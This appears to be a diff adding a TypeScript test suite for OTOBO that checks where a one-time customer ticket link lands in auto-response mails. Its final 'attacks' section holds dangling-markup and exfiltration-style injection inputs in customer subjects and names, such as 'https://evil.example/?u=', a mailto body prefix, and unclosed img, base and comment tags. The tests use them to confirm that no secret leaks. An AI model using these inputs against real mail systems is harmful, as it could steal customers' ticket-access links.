@@ -1,0 +1,219 @@
+import { expect } from "chai";
+import type { SentMail } from "../otobo/outbox.ts";
+import { linkOf, opensSomething, safeLinkOf } from "./links.ts";
+import { mail } from "./mails.ts";
+import type { Room, Scenario } from "./scenario.ts";
+import { strayPlaces } from "./secret-places.ts";
+import { answer, mailIn, newest, opens, tag } from "./steps.ts";
+import type { AdminText, World } from "./world.ts";
+
+const htmlTag = "&lt;OTOBO_OTACustomerTicketLink&gt;";
+
+/** An admin writes an auto response, and a customer gets it. */
+const autoResponse = async (
+  world: World,
+  text: Omit<AdminText, "subject">,
+  from?: string,
+): Promise<{ sent: SentMail; ticketNumber: string }> => {
+  await world.setAutoResponses({ subject: "Your ticket", ...text });
+  const address = world.freshAddress("placement");
+  const { ticketNumber } = await world.receive(mail({ from: from ? `${from} <${address}>` : address }));
+  const sent = newest(await world.mailsTo(address));
+  if (!sent) throw new Error("There is no auto response");
+  return { sent, ticketNumber };
+};
+
+/** Without OTOBO's editor: all texts are plain. */
+const plainText = (world: World): Promise<void> => world.set("Frontend::RichText", "0");
+
+/** What admins put around a link, in many languages; LINK for the tag. */
+const typography = [
+  "„LINK“ “LINK” ‘LINK’ ‚LINK‘ »LINK« «LINK» ‹LINK› „LINK” 「LINK」 'LINK' `LINK`",
+  "Ticket:LINK Lien\u00a0:\u00a0LINK 工单：LINK URL=LINK Ticket#1:LINK",
+  "*LINK* **LINK** _LINK_ ~LINK~ |LINK| [LINK] {LINK} (LINK) <LINK> <URL:LINK>",
+  "–LINK– —LINK— -LINK ->LINK →LINK •LINK 👉LINK👈",
+  "LINK… LINK... LINK. LINK! LINK? LINK; LINK, LINK。 LINK！",
+];
+
+const plain: Scenario[] = typography.map((line) => ({
+  name: `a link in plain text works with what an admin put around it: ${line}`,
+  run: async (world) => {
+    await plainText(world);
+    const { sent, ticketNumber } = await autoResponse(world, {
+      text: `Hello!\n\n${line.replaceAll("LINK", tag)}\n\nBye`,
+    });
+    const link = linkOf(sent);
+    for (const word of line.split(" ")) expect(sent.text, word).to.contain(word.replaceAll("LINK", link));
+    expect(
+      sent.links.every((found) => found === link),
+      sent.text,
+    ).to.equal(true);
+    await opens(link, ticketNumber);
+  },
+}));
+
+const schemes: Scenario[] = [
+  {
+    name: "http://, https:// or mailto: that an editor put before the tag is dropped, in plain text",
+    run: async (world) => {
+      await plainText(world);
+      const text = `One: http://${tag}\nTwo: https://${tag}\nThree: mailto:${tag}\nFour: HTTP://${tag}\n`;
+      const { sent, ticketNumber } = await autoResponse(world, { text });
+      const link = linkOf(sent);
+      for (const count of ["One", "Two", "Three", "Four"])
+        expect(sent.text).to.match(new RegExp(`${count}: ${link}\\s`));
+      await opens(link, ticketNumber);
+    },
+  },
+  ...[
+    `href="http://${htmlTag}"`,
+    `href="https://${htmlTag}"`,
+    `href="mailto:${htmlTag}"`,
+    `href="http://${tag}"`,
+    `href="http://%3COTOBO_OTACustomerTicketLink%3E/"`,
+    `href="${htmlTag}?utm_source=mail"`,
+    `href=${htmlTag}`,
+  ].map((href): Scenario => ({
+    name: `a link of an editor works, whatever the editor made of the tag: ${href}`,
+    run: async (world) => {
+      const { sent, ticketNumber } = await autoResponse(world, { html: true, text: `<p><a ${href}>Open</a></p>` });
+      expect(sent.html).not.to.match(/https?:\/\/https?:|mailto:/);
+      await opens(linkOf(sent), ticketNumber);
+    },
+  })),
+];
+
+/** What templates are made of that look the same in Outlook. */
+const corporate = `<!-- header -->
+<!--[if mso]><style>td { font-family: Arial }</style><![endif]-->
+<table role="presentation" width="600" cellpadding="0"><tr><td bgcolor="#ffffff" data-block="text">
+<style>a:hover { color: red }</style>
+<svg width="10" height="10"><path d="M0 0h10v10z"/></svg>
+<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="${htmlTag}" arcsize="10%"><w:anchorlock/><center>Open</center></v:roundrect><![endif]-->
+<!--[if !mso]><!--><a href="${htmlTag}" role="button" aria-label="Open" data-track="no" tabindex="0" hreflang="en" referrerpolicy="no-referrer" style="color:#ffffff">Open</a><!--<![endif]-->
+<p>Or: <a href="${htmlTag}">${htmlTag}</a></p>
+</td></tr></table>`;
+
+const html: Scenario[] = [
+  {
+    name: "links of a template made for Outlook work: conditional comments, VML, role, aria and data attributes, svg and a style sheet",
+    run: async (world) => {
+      const { sent, ticketNumber } = await autoResponse(world, { html: true, text: corporate });
+      const link = linkOf(sent);
+      expect((sent.html ?? "").split(`href="${link}"`), sent.html).to.have.lengthOf(4);
+      await opens(link, ticketNumber);
+    },
+  },
+  {
+    name: "a link in a line of its own in an HTML mail of OTOBO's is a button in the customer's language, with the address below it",
+    run: async (world) => {
+      await world.setAutoResponses({ subject: "Your ticket", html: true, text: `<p>Hello</p><p>${htmlTag}</p>` });
+      const address = world.freshAddress("button");
+      await world.addCustomerUser({ login: address, email: address, language: "de" });
+      const { ticketNumber } = await world.receive(mail({ from: address }));
+      const sent = newest(await world.mailsTo(address));
+      const link = linkOf(sent);
+      expect(sent?.html).to.match(
+        new RegExp(`<a [^>]*href="?${link}"?[^>]*><span[^>]*>Ihr Ticket (?:ö|&ouml;)ffnen</span></a>`),
+      );
+      expect(sent?.html).to.match(new RegExp(`<a [^>]*href="${link}"[^>]*>${link}</a>`));
+      expect(sent?.text).to.contain(link);
+      await opens(link, ticketNumber);
+    },
+  },
+];
+
+const inert = "The one-time link in an email opens nothing, because ";
+
+const told: Scenario[] = [
+  {
+    name: "a mail that leaves with a link that opens nothing, because an agent added a Cc, is told in the ticket's history",
+    run: async (world) => {
+      const address = world.freshAddress("told");
+      const { ticketNumber } = await mailIn(world, address);
+      expect((await world.ticket(ticketNumber)).history.join("\n")).not.to.contain(inert);
+      await answer(world, ticketNumber, { to: address, cc: world.freshAddress("colleague") });
+      const { history } = await world.ticket(ticketNumber);
+      expect(history).to.include(`${inert}the mail does not go to the registered address alone.`);
+    },
+  },
+  {
+    name: "a template that has the tag where no link belongs is told in OTOBO's log and in the ticket's history",
+    run: async (world) => {
+      const text = `<p>Hello <img alt="" src="${htmlTag}"></p>`;
+      const { sent, ticketNumber } = await autoResponse(world, { html: true, text });
+      expect(opensSomething(sent)).to.equal(false);
+      const because = "because it stands in an attribute or an element in which no link belongs.";
+      expect((await world.ticket(ticketNumber)).history.join("\n")).to.contain(because);
+      expect(await world.otoboLog()).to.contain(`ticket ${ticketNumber} opens nothing, ${because}`);
+    },
+  },
+];
+
+const evil = "https://evil.example/?u=";
+
+const attacks: Scenario[] = [
+  {
+    name: "a customer's subject that ends in an address, right before the tag, gets no secret into that address",
+    run: async (world) => {
+      for (const isPlain of [true, false]) {
+        if (isPlain) await plainText(world);
+        else await world.set("Frontend::RichText", "1");
+        for (const words of [
+          evil,
+          "evil.example/",
+          "//evil.example/",
+          `<${evil} `,
+          `"${evil} `,
+          "mailto:eve@evil.example?body=",
+        ]) {
+          const address = world.freshAddress("attacker");
+          await world.setAutoResponses({
+            ...{ subject: "Re", html: !isPlain },
+            text: isPlain ? `<OTOBO_TICKET_Title>${tag} soon` : `<p>&lt;OTOBO_TICKET_Title&gt;${htmlTag} soon</p>`,
+          });
+          const { ticketNumber } = await world.receive(mail({ from: address, subject: words }));
+          const sent = newest(await world.mailsTo(address));
+          expect(sent?.text, words).to.contain("evil.example");
+          expect(sent && (await strayPlaces(sent)), words).to.deep.equal([]);
+          if (!isPlain) continue;
+          expect(sent && opensSomething(sent), words).to.equal(false);
+          expect((await world.ticket(ticketNumber)).history.join("\n")).to.contain("it stands inside another address");
+        }
+      }
+    },
+  },
+  {
+    name: "a customer's name with an address or markup in it, right before the tag, gets no secret into what the name began",
+    run: async (world) => {
+      const dear = `<p>Dear &lt;OTOBO_CUSTOMER_REALNAME&gt;${htmlTag} it's here</p><p>Again: ${htmlTag} "bye"</p>`;
+      for (const name of [
+        evil,
+        `<img src='${evil}`,
+        `<img src=\\"${evil}`,
+        `<!-- `,
+        `<svg><style>`,
+        `<base href='${evil}'>`,
+      ]) {
+        const { sent } = await autoResponse(world, { html: true, text: dear }, `"${name}"`);
+        expect(await strayPlaces(sent), `${name}\n${sent.html ?? ""}`).to.deep.equal([]);
+      }
+    },
+  },
+  {
+    name: "a link that an agent's mail quotes again stays as it was, in whatever typography",
+    run: async (world) => {
+      const address = world.freshAddress("quoted");
+      const { ticketNumber, link } = await mailIn(world, address);
+      await world.send(ticketNumber, { to: address, text: `As I wrote: „${safeLinkOf(link)}“` });
+      const sent = newest(await world.mailsTo(address));
+      expect(sent && opensSomething(sent)).to.equal(false);
+      expect((await world.ticket(ticketNumber)).history.join("\n")).not.to.contain(inert);
+    },
+  },
+];
+
+export const tagPlacements: Room = {
+  title: "settings: the tag wherever an admin puts it",
+  scenarios: [...plain, ...schemes, ...html, ...told, ...attacks],
+};
